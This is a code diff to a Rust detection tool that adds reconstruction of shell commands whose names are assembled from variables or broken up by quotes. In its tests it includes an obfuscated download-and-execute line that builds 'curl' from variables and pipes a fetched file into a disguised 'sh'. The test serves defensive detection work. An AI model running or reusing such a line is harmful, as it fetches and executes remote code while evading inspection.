@@ -16,7 +16,8 @@ use inwarden_types::{Argv, Event, EventData, Image};
 use crate::{
     program::is_known_program,
     reading::{
-        Language, Origin, Outline, PLACEHOLDER, Reading, inert_arguments, is_shell, outline,
+        Command, Language, Origin, Outline, PLACEHOLDER, Reading, inert_arguments, is_shell,
+        outline,
     },
     render::{base_name, script_index},
 };
@@ -59,6 +60,7 @@ pub(crate) fn views_of(
         found: Vec::new(),
     };
     views.of_arguments(reading);
+    views.of_assembled(reading);
     let mut sources = VecDeque::new();
     for layer in &reading.layers {
         let runs = !matches!(layer.origin, Origin::CommandLine);
@@ -137,6 +139,26 @@ fn shell_name(args: &[String], idx: usize) -> &str {
     named.unwrap_or_default()
 }
 
+/// A command as one would write it.
+fn written(command: &Command) -> String {
+    let mut words: Vec<String> = command.words.iter().map(|word| quoted(word)).collect();
+    for redirect in &command.redirects {
+        let fd = redirect.fd.map_or_else(String::new, |fd| fd.to_string());
+        let sign = if redirect.writes { '>' } else { '<' };
+        let and = if redirect.duplicates { "&" } else { "" };
+        words.push(format!("{fd}{sign}{and}{}", quoted(&redirect.target)));
+    }
+    words.join(" ")
+}
+
+fn quoted(word: &str) -> String {
+    let is_plain = |c: char| c.is_alphanumeric() || "_@%+=:,./-&$()".contains(c);
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
 struct Views<'a> {
     whole: &'a Image,
     fast: &'a dyn Fn(&Image) -> f64,
@@ -162,6 +184,23 @@ impl Views<'_> {
                 None => args.push(exe.to_owned()),
             }
             self.add_argv(args);
+        }
+    }
+
+    /// Pipelines whose names were put together from variables or quotes, with the
+    /// names they have.
+    fn of_assembled(&mut self, reading: &Reading) {
+        let of_layers = reading.commands.chunk_by(|a, b| a.pipeline == b.pipeline);
+        let written_otherwise = |command: &Command| command.assembled || command.idle_quotes > 0;
+        for pipeline in of_layers.filter(|all| all.iter().any(written_otherwise)) {
+            if let [command] = pipeline
+                && command.redirects.is_empty()
+            {
+                self.add_argv(command.words.clone());
+                self.add_argv(command.inner_words());
+            }
+            let commands: Vec<String> = pipeline.iter().map(written).collect();
+            self.add_text(&commands.join(" | "));
         }
     }
 
@@ -333,6 +372,7 @@ mod tests {
             ),
             format!("echo '{PAYLOAD}' > ./x; . ./x"),
             format!("sh <<'E'\n{PAYLOAD}\nE"),
+            "p=cu q=rl; p=cu; q=rl; ${p}${q} http://192.0.2.1/a | s''h".to_owned(),
             format!("date; ( ls; {{ {PAYLOAD}; }} )"),
         ] {
             let found = views(&["sh", "-c", &script]);
